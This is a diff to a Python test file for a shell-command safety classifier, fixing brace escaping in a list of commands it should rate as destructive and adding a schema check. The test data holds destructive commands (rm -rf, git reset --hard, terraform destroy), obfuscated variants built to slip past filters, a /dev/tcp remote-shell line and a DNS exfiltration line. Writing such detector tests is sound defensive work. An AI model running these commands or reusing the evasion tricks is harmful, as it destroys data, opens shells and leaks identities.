@@ -3,9 +3,11 @@
 from __future__ import annotations
 
 import base64
+import json
 
 import pytest
 
+from safety_core.edge.shipped import shipped_folder
 from safety_core.model.level import Level
 from tests.simulators.judging import Judging
 
@@ -113,13 +115,13 @@ exec 3<>/dev/tcp/203.0.113.5/443
 dig $(whoami).example.com
 """.strip()
 
-RED = f"""
+RED = """
 rm -rf build
 rm -f *.log
 rm *.txt
 rm /etc/motd.old
 find . -name '*.log' -delete
-find . -name '*.tmp' -exec rm {{}} +
+find . -name '*.tmp' -exec rm {} +
 ls | xargs rm
 git reset --hard
 git checkout -- .
@@ -168,7 +170,7 @@ docker exec web rm -rf /data
 env -S 'rm -rf build'
 nohup setsid timeout -s KILL 5 rm -rf build
 unlisted-wrapper rm -rf build
-f() {{ rm -rf "$1"; }}; f build
+f() { rm -rf "$1"; }; f build
 for x in a b; do rm -rf $x; done
 while read x; do rm -rf "$x"; done < list
 if true; then rm -rf a; fi
@@ -182,20 +184,20 @@ bash <<< 'rm -rf build'
 trap 'rm -rf build' EXIT
 $(echo rm) -rf build
 r\\m -r"f" build
-rm${{IFS}}-rf${{IFS}}build
-{{rm,-rf,build}}
+rm${IFS}-rf${IFS}build
+{rm,-rf,build}
 $'\\x72\\x6d' -rf build
 x=rm; $x -rf build
 x=r; x+=m; $x -rf build
 echo `rm -rf build`
-cat ${{x:-$(rm -rf build)}}
+cat ${x:-$(rm -rf build)}
 GIT_SSH_COMMAND='rm -rf build' git fetch
 git -c core.pager='rm -rf build' log
 git -c alias.x='!rm -rf build' x
 rm -rf build 'unterminated
 rm --recurs build
 coproc rm -rf build
-time {{ rm -rf build; }}
+time { rm -rf build; }
 terraform destroy
 redis-cli del key
 curl -X DELETE http://localhost:9200/index
@@ -257,3 +259,12 @@ def lines(text: str) -> list[str]:
 def test_level(judging: Judging, level: Level, command: str) -> None:
     verdict = judging.verdict(judging.shell(command))
     assert verdict.level is level, verdict.hits
+
+
+def test_facts_keep_to_the_published_vocabulary(judging: Judging) -> None:
+    schema = json.loads((shipped_folder() / "schema" / "facts.json").read_text())
+    action = schema["$defs"]["action"]["properties"]
+    for command in lines(GREEN + "\n" + YELLOW + "\n" + EXTERNAL + "\n" + RED + "\n" + CRITICAL):
+        for found in judging.shell(command).actions:
+            assert found.traits <= set(action["traits"]["items"]["enum"])
+            assert found.kind in action["kind"]["enum"]
